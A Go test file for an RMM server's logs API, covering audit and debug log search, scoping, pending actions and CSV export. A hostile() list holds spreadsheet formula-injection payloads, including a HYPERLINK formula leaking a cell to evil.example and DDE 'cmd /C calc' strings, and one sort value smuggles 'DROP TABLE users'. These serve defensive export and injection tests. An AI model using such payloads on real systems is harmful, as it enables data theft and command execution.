package logsapi_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/gueencode/gueenrmm/pkg/access"
	"github.com/gueencode/gueenrmm/services/api/internal/resttest"
)

type body = map[string]any

const (
	agentOne = "AgentOneAgentOneAgentOneAgentOneAgentOne"
	agentTwo = "AgentTwoAgentTwoAgentTwoAgentTwoAgentTwo"
)

// fixture is an api with two clients of one agent each.
func fixture(t *testing.T) *resttest.API {
	t.Helper()
	api := resttest.New(t)
	_, err := api.Pool.Exec(t.Context(), `
		INSERT INTO clients (id, name) VALUES (1, 'One'), (2, 'Two');
		INSERT INTO sites (id, client_id, name) VALUES (1, 1, 'A'), (2, 2, 'B');
		INSERT INTO agents (id, agent_id, hostname, site_id, plat) VALUES (1, $$`+agentOne+`$$, 'HOST-1', 1, 'windows'), (2, $$`+agentTwo+`$$, 'HOST-2', 2, 'linux')`)
	require.NoError(t, err)
	return api
}

func exec(t *testing.T, api *resttest.API, sql string, args ...any) {
	t.Helper()
	_, err := api.Pool.Exec(t.Context(), sql, args...)
	require.NoError(t, err)
}

// auditRows adds ten rows: of nobody's agent, of the first and of the second agent in turn.
func auditRows(t *testing.T, api *resttest.API) {
	t.Helper()
	exec(t, api, `INSERT INTO audit_log (username, action, object_type, agent, agent_id, message, entry_time, after_value, debug_info)
		SELECT CASE WHEN i % 2 = 0 THEN 'ana' ELSE 'ben' END, CASE WHEN i = 9 THEN 'delete' ELSE 'modify' END, 'client',
		  CASE i % 3 WHEN 1 THEN 'HOST-1' WHEN 2 THEN 'HOST-2' END, CASE i % 3 WHEN 1 THEN $1 WHEN 2 THEN $2 END, 'row ' || i,
		  now() - (20 - i) * interval '1 hour', jsonb_build_object('password', 'hunter2', 'n', i), '{"ip": "192.0.2.1"}'
		FROM generate_series(0, 9) i`, agentOne, agentTwo)
	exec(t, api, `ANALYZE audit_log`)
}

func search(t *testing.T, c *resttest.Client, pagination body, more ...body) (messages []string, total int) {
	t.Helper()
	in := body{"pagination": pagination, "objectFilter": []string{"client"}}
	for _, m := range more {
		for k, v := range m {
			in[k] = v
		}
	}
	var out struct {
		AuditLogs []struct {
			Message string `json:"message"`
		} `json:"audit_logs"`
		Total int `json:"total"`
	}
	c.Patch("/logs/audit/", in).OK(&out)
	messages = []string{}
	for _, r := range out.AuditLogs {
		messages = append(messages, strings.TrimPrefix(r.Message, "row "))
	}
	return messages, out.Total
}

func page(size, number int, sort string, down bool) body {
	return body{"rowsPerPage": size, "page": number, "sortBy": sort, "descending": down}
}

func TestAuditSearchPagesAndSorts(t *testing.T) {
	t.Parallel()
	api := fixture(t)
	auditRows(t, api)
	admin := api.Admin()
	for name, c := range map[string]struct {
		pagination any
		want       string
	}{
		"newest":            {page(3, 1, "entry_time", true), "9 8 7"},
		"second page":       {page(3, 2, "entry_time", true), "6 5 4"},
		"last":              {page(3, 4, "entry_time", true), "0"},
		"beyond the end":    {page(3, 99, "entry_time", true), "0"},
		"before the start":  {page(3, -1, "entry_time", true), "9 8 7"},
		"page in words":     {body{"rowsPerPage": 3, "page": "first", "sortBy": "id", "descending": false}, "0 1 2"},
		"page in quotes":    {body{"rowsPerPage": 3, "page": "3", "sortBy": "id", "descending": false}, "6 7 8"},
		"no page":           {body{"rowsPerPage": 3}, "0 1 2"},
		"all":               {page(0, 1, "id", true), "9 8 7 6 5 4 3 2 1 0"},
		"by user":           {page(6, 1, "username", false), "8 6 4 2 0 9"},
		"by user, down":     {page(6, 1, "username", true), "1 3 5 7 9 0"},
		"by user, the end":  {page(4, 3, "username", true), "6 8"},
		"by agent":          {page(4, 1, "agent", false), "7 4 1 8"},
		"by no column":      {page(2, 1, "client", true), "9 8"},
		"by a secret value": {page(2, 1, "after_value", true), "9 8"},
		"by an injection":   {page(2, 1, "id; DROP TABLE users", true), "9 8"},
		"cleared sort":      {body{"rowsPerPage": 2, "page": 1, "sortBy": nil, "descending": nil}, "0 1"},
	} {
		got, total := search(t, admin, c.pagination.(body))
		require.Equal(t, c.want, strings.Join(got, " "), name)
		require.Equal(t, 10, total, name)
	}
	admin.Patch("/logs/audit/", body{}).Is(http.StatusBadRequest, body{"pagination": []string{"This field is required."}})
	require.Equal(t, http.StatusBadRequest, admin.Patch("/logs/audit/", body{"pagination": body{"rowsPerPage": -5}}).Status)
	require.Equal(t, http.StatusBadRequest, admin.Patch("/logs/audit/", body{"pagination": page(5, 1, "", true), "timeFilter": "soon"}).Status)
	admin.Get("/logs/audit/").Detail(http.StatusMethodNotAllowed, `Method "GET" not allowed.`)
}

func TestAuditSearchFiltersInScope(t *testing.T) {
	t.Parallel()
	api := fixture(t)
	auditRows(t, api)
	admin := api.Admin()
	find := func(c *resttest.Client, filters body) string {
		got, total := search(t, c, page(100, 1, "id", false), filters)
		require.Len(t, got, total)
		return strings.Join(got, " ")
	}
	require.Equal(t, "1 4 7", find(admin, body{"agentFilter": []string{agentOne}}))
	require.Equal(t, "1 4 7", find(admin, body{"agentFilter": []string{agentOne}, "clientFilter": []int{2}}), "agents win over clients")
	require.Equal(t, "2 5 8", find(admin, body{"clientFilter": []int{2}}))
	require.Equal(t, "", find(admin, body{"clientFilter": []int{}}), "an empty list matches nothing")
	require.Equal(t, "1 3 5 7 9", find(admin, body{"userFilter": []string{"ben"}}))
	require.Equal(t, "9", find(admin, body{"userFilter": []string{"ben"}, "actionFilter": []string{"delete", "add"}}))
	require.Equal(t, "", find(admin, body{"userFilter": []string{"nosuch"}}))
	require.Equal(t, "", find(admin, body{"objectFilter": []string{}}))
	require.Equal(t, "0 1 2 3 4 5 6 7 8 9", find(admin, body{"timeFilter": 1}))
	exec(t, api, `UPDATE core_settings SET audit_log_prune_days = 0`)

	first := api.As(resttest.Role{Permissions: []access.Permission{access.ViewAuditLogs}, Clients: []int32{1}})
	require.Equal(t, "0 1 3 4 6 7 9", find(first, nil), "of the client's agents, and of none")
	require.Equal(t, "", find(first, body{"clientFilter": []int{2}}))
	require.Equal(t, "1 4 7", find(first, body{"agentFilter": []string{agentOne, agentTwo}}))
	site := api.As(resttest.Role{Permissions: []access.Permission{access.ViewAuditLogs}, Sites: []int32{2}})
	require.Equal(t, "0 2 3 5 6 8 9", find(site, nil))

	// The number follows rows that come and agents that move.
	exec(t, api, `INSERT INTO audit_log (username, action, object_type, message) VALUES ('ana', 'add', 'client', 'row 10')`)
	require.Equal(t, "0 1 2 3 4 5 6 7 8 9 10", find(admin, nil))
	require.Equal(t, "0 2 3 5 6 8 9 10", find(site, nil))

	var rows struct {
		AuditLogs []body `json:"audit_logs"`
	}
	admin.Patch("/logs/audit/", body{"pagination": page(1, 1, "id", false), "agentFilter": []string{agentTwo}}).OK(&rows)
	require.Equal(t, "B", rows.AuditLogs[0]["site"].(body)["name"])
	require.Equal(t, "Two", rows.AuditLogs[0]["site"].(body)["client_name"])
	require.Equal(t, "192.0.2.1", rows.AuditLogs[0]["ip_address"])
	require.Equal(t, "********", rows.AuditLogs[0]["after_value"].(body)["password"], "what was stored in clear is masked when it is read")
	require.NotContains(t, rows.AuditLogs[0]["after_value"], "hunter2")
}

func TestAuditBrowseAndOne(t *testing.T) {
	t.Parallel()
	api := fixture(t)
	auditRows(t, api)
	limited := api.As(resttest.Role{Permissions: []access.Permission{access.ViewAuditLogs}, Clients: []int32{1}})
	var ids []int
	path := "/v1/audit-log?object=client&limit=2"
	for cursor, pages := "", 0; pages < 10; pages++ {
		var out struct {
			Items []struct {
				ID        int    `json:"id"`
				Message   string `json:"message"`
				HasValues bool   `json:"has_values"`
			} `json:"items"`
			NextCursor *string `json:"next_cursor"`
			Total      int     `json:"total"`
		}
		limited.Get(path + cursor).OK(&out)
		require.Equal(t, 7, out.Total)
		for _, i := range out.Items {
			require.True(t, i.HasValues)
			ids = append(ids, i.ID)
		}
		if out.NextCursor == nil {
			break
		}
		cursor = "&cursor=" + *out.NextCursor
	}
	require.Len(t, ids, 7)
	var one body
	limited.Get(fmt.Sprintf("/v1/audit-log/%d", ids[0])).OK(&one)
	require.Equal(t, "row 9", one["message"])
	require.NotNil(t, one["after_value"])
	var other int
	require.NoError(t, api.Pool.QueryRow(t.Context(), `SELECT id FROM audit_log WHERE message = 'row 8'`).Scan(&other))
	require.Equal(t, http.StatusNotFound, limited.Get(fmt.Sprintf("/v1/audit-log/%d", other)).Status, "another client's row does not show")
	api.Admin().Get(fmt.Sprintf("/v1/audit-log/%d", other)).OK(nil)
	for _, bad := range []string{"cursor=x", "limit=0", "limit=201", "action=explode", "since=yesterday", "client=x"} {
		require.Equal(t, http.StatusBadRequest, limited.Get("/v1/audit-log?"+bad).Status, bad)
	}
	var window struct {
		Items []body `json:"items"`
	}
	api.Admin().Get("/v1/audit-log?since=2999-01-01T00:00:00Z").OK(&window)
	require.Empty(t, window.Items)
	api.Admin().Get("/v1/audit-log?site=2&user=ana,ben&object=client").OK(&window)
	require.Len(t, window.Items, 3)
}

func TestDebugLog(t *testing.T) {
	t.Parallel()
	api := fixture(t)
	exec(t, api, `INSERT INTO debug_log (agent_id, log_level, log_type, message) VALUES (1, 'error', 'scripting', 'a'), (2, 'info', 'agent_update', 'b'), (NULL, 'critical', 'system_issues', NULL)`)
	var rows []body
	api.Admin().Patch("/logs/debug/", body{}).OK(&rows)
	require.Len(t, rows, 3)
	require.NotContains(t, rows[0], "agent", "a row about no agent has no such key")
	require.Equal(t, "HOST-2", rows[1]["agent"])
	api.Admin().Patch("/logs/debug/", body{"logLevelFilter": "critical", "logTypeFilter": "scripting", "agentFilter": agentOne}).Is(http.StatusOK, []body{})
	api.Admin().Patch("/logs/debug/", body{"logLevelFilter": "error", "agentFilter": agentOne}).OK(&rows)
	require.Len(t, rows, 1)
	limited := api.As(resttest.Role{Permissions: []access.Permission{access.ViewDebugLogs}, Sites: []int32{1}})
	limited.Patch("/logs/debug/", body{}).OK(&rows)
	require.Len(t, rows, 2)
	var window struct {
		Items      []body  `json:"items"`
		NextCursor *string `json:"next_cursor"`
	}
	limited.Get("/v1/debug-log?limit=1").OK(&window)
	require.NotNil(t, window.NextCursor)
	limited.Get("/v1/debug-log?limit=1&cursor=" + *window.NextCursor).OK(&window)
	require.Equal(t, "A", window.Items[0]["site"])
	require.Equal(t, http.StatusBadRequest, limited.Get("/v1/debug-log?level=fatal").Status)
}

func TestPendingActions(t *testing.T) {
	t.Parallel()
	api := fixture(t)
	exec(t, api, `INSERT INTO pending_actions (id, agent_id, action_type, details) VALUES
		(1, 1, 'schedreboot', '{"taskname": "TacticalRMM_SchedReboot_abc", "time": "2999-01-01 10:00:00"}'),
		(2, 1, 'schedreboot', '{"taskname": "TacticalRMM_SchedReboot_abd", "time": "2001-01-01 10:00:00"}'),
		(3, 2, 'agentupdate', '{"version": "2.9.0"}'), (4, 2, 'chocoinstall', '{"name": "git"}'), (5, 2, NULL, NULL), (6, 2, 'runcmd', NULL)`)
	admin := api.Admin()
	var rows []body
	admin.Get("/logs/pendingactions/").OK(&rows)
	var shown []string
	for _, r := range rows {
		shown = append(shown, fmt.Sprint(r["description"], "|", r["due"], "|", r["status"]))
	}
	require.Equal(t, []string{
		"Device pending reboot|2999-01-01 10:00:00|pending", "Device pending reboot|2001-01-01 10:00:00|completed",
		"Agent update to 2.9.0|Next update cycle|pending", "git software install|ASAP|pending", "<nil>|On next checkin|pending", "runcmd|On next checkin|pending",
	}, shown)

	limited := api.As(resttest.Role{Permissions: []access.Permission{access.ListPendingActions, access.ManagePendingActions}, Clients: []int32{2}})
	limited.Get("/logs/pendingactions/").OK(&rows)
	require.Len(t, rows, 4)
	var window struct {
		Items      []body  `json:"items"`
		NextCursor *string `json:"next_cursor"`
	}
	admin.Get("/v1/pending-actions?status=pending&limit=3").OK(&window)
	require.Len(t, window.Items, 3)
	require.Equal(t, "4", *window.NextCursor)
	admin.Get("/v1/pending-actions?status=pending&limit=3&cursor=" + *window.NextCursor).OK(&window)
	require.Len(t, window.Items, 2)
	require.Nil(t, window.NextCursor)
	admin.Get("/v1/pending-actions?agent=" + agentOne + "&client=1&site=1&status=completed").OK(&window)
	require.Len(t, window.Items, 1)

	limited.Delete("/logs/pendingactions/1/").Forbidden()
	limited.Delete("/logs/pendingactions/999/").NotFound("PendingAction")
	limited.Delete("/logs/pendingactions/4/").Is(http.StatusOK, "HOST-2: git software install was cancelled")
	limited.Delete("/logs/pendingactions/5/").Is(http.StatusOK, "HOST-2: None was cancelled")
	admin.Delete("/logs/pendingactions/1/").Is(http.StatusBadRequest, "timeout")
	admin.Get("/logs/pendingactions/").OK(&rows)
	require.Len(t, rows, 4, "a reboot that the agent could not be told to forget stays")
	var audited int
	require.NoError(t, api.Pool.QueryRow(t.Context(), `SELECT count(*) FROM audit_log WHERE object_type = 'pendingaction' AND action = 'delete' AND agent = 'HOST-2'`).Scan(&audited))
	require.Equal(t, 2, audited)
	api.With(access.ListPendingActions).Delete("/logs/pendingactions/3/").Forbidden()
}

// hostile are texts that spreadsheets would run.
func hostile() []string {
	return []string{
		`=1+1`, `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, "＝1+1", `"=1+1`, "a,b\r\n=1+1", "\x01=1+1",
	}
}

func TestExportsKeepHostileValuesText(t *testing.T) {
	t.Parallel()
	api := fixture(t)
	for _, text := range hostile() {
		exec(t, api, `INSERT INTO audit_log (username, action, object_type, agent, message, after_value, debug_info) VALUES ($1, 'add', 'client', $1, $1, to_jsonb($1::text), jsonb_build_object('ip', $1::text))`, text)
		exec(t, api, `INSERT INTO debug_log (message) VALUES ($1)`, text)
	}
	exec(t, api, `UPDATE clients SET name = '=1+1' WHERE id = 1; UPDATE sites SET name = '@x' WHERE id = 1; UPDATE agents SET hostname = '-h' WHERE id = 1;
		INSERT INTO debug_log (agent_id, message) VALUES (1, 'of an agent')`)
	for path, atLeast := range map[string]int{"/v1/audit-log/export?object=client": len(hostile()), "/v1/debug-log/export": len(hostile()) + 1} {
		reply := api.Admin().Get(path)
		require.Equal(t, http.StatusOK, reply.Status, reply.Body)
		require.Equal(t, "text/csv; charset=utf-8", reply.Header.Get("Content-Type"))
		require.Regexp(t, `^attachment; filename="(audit|debug)-log-\d{8}-\d{6}\.csv"$`, reply.Header.Get("Content-Disposition"))
		rows, err := csv.NewReader(strings.NewReader(reply.Body)).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, atLeast+1)
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" {
					require.NotContains(t, "=+-@\t\r\n ＝", string([]rune(cell)[0]), "%q would run", cell)
				}
			}
		}
	}
	var audited int
	require.NoError(t, api.Pool.QueryRow(t.Context(), `SELECT count(*) FROM audit_log WHERE action = 'view' AND object_type = 'export'`).Scan(&audited))
	require.Equal(t, 2, audited, "an export leaves a row itself")
}

func TestExportIsScopedAndFiltered(t *testing.T) {
	t.Parallel()
	api := fixture(t)
	auditRows(t, api)
	lines := func(c *resttest.Client, path string) int {
		reply := c.Get(path)
		require.Equal(t, http.StatusOK, reply.Status, reply.Body)
		require.NotContains(t, reply.Body, "hunter2")
		rows, err := csv.NewReader(strings.NewReader(reply.Body)).ReadAll()
		require.NoError(t, err)
		return len(rows) - 1
	}
	limited := api.As(resttest.Role{Permissions: []access.Permission{access.ViewAuditLogs}, Clients: []int32{1}})
	require.Equal(t, 7, lines(limited, "/v1/audit-log/export?object=client"))
	require.Equal(t, 0, lines(limited, "/v1/audit-log/export?object=client&agent="+agentTwo))
	require.Equal(t, 5, lines(api.Admin(), "/v1/audit-log/export?object=client&user=ana"))
	exec(t, api, `INSERT INTO audit_log (username, action, object_type) SELECT 'bulk', 'add', 'site' FROM generate_series(1, 1750)`)
	require.Equal(t, 1750, lines(api.Admin(), "/v1/audit-log/export?object=site"), "several pieces")
	require.Equal(t, http.StatusForbidden, api.With(access.ViewDebugLogs).Get("/v1/audit-log/export").Status)
	require.Equal(t, http.StatusBadRequest, api.Admin().Get("/v1/audit-log/export?action=x").Status)
}
